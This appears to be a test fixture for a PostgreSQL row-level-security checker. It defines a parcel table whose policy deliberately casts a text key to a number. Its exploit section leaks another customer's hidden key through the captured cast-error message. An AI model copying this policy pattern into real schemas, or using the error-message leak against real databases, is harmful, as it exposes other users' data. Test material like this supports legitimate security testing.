-- title: a text key is cast to a number in the policy and errors print it
-- kind: hole
-- expect: B27
-- object: public.parcel
-- logins: app
create role post_owner nologin;
create role app login;
grant create on schema public to post_owner;
grant usage on schema public to app;
set role post_owner;
create table public.parcel (
  customer_no text not null,
  barcode text not null,
  weight_g int not null,
  primary key (customer_no, barcode)
);
alter table public.parcel enable row level security;
alter table public.parcel force row level security;
create policy parcel_of_customer on public.parcel using (customer_no::bigint = (select nullif(current_setting('post.customer', true), '')::bigint));
grant select, insert, update on public.parcel to app;
reset role;
revoke create on schema public from post_owner;

-- @data
insert into parcel values ('VIP-Miller', 'x', 1);
-- @exploit
select set_config('post.customer', '1', true);
create temp table said (message text);
do $$ begin perform count(*) from parcel; exception when others then insert into said values (sqlerrm); end $$;
select 1 from said where message like '%VIP-Miller%';
